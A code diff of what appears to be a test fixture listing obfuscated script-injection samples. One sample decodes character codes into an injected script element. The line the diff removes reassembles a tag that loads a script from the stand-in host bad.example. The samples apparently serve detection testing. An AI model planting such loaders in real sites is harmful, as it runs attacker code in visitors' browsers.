@@ -34,5 +34,4 @@ ${Array.from(
 /** What hides something in the same forms. */
 export const MALICIOUS_LIBRARIES: Named = {
   'a text of a script element that was asked for by a comparison': `var o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c[i]-7);for(var k in kinds)if(kinds[k]==='script'){var s=document.createElement('script');s.text=o;document.head.appendChild(s);}`,
-  'pieces, each with a name of its own': `${[...'document.write("<scr"+"ipt src=//bad.example/x.js></scr"+"ipt>")'.matchAll(/.{1,2}/g)].map(([piece], index) => `v${index}='${piece}';`).join('')}go(${Array.from({ length: 33 }, (_, index) => `v${index}`).join('+')});`,
 };
